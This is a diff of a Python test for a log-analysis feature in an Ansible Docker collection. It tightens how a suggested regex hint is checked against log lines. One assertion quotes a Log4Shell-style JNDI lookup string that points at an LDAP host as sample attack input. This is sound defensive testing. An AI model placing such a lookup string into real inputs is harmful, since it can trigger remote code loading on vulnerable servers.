@@ -21,6 +21,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from ansible_collections.cordon.docker.plugins.module_utils._errors import InvalidOption
+from ansible_collections.cordon.docker.plugins.module_utils._host.logpatterns import Pattern
 from ansible_collections.cordon.docker.plugins.plugin_utils._analysis import (
     baseline,
     database,
@@ -262,4 +263,5 @@ def test_a_command_in_the_path_is_shown_and_the_hint_can_be_pasted(tmp_path: Pat
     assert "such as `${jndi:ldap://10.0.0.1/a}`" in found.sentence
     arguments = shlex.split(found.next)[-1]
     pattern = arguments.partition("regex=")[2].partition(" ")[0]
-    assert all(re.search(pattern, row["line"], re.IGNORECASE) for row in lines)
+    assert not set(pattern) & set(",'\"\\ ")  # the module's option is a list, and the shell has its own mind
+    assert all(Pattern.regex(pattern, True).matches(row["line"]) for row in lines)
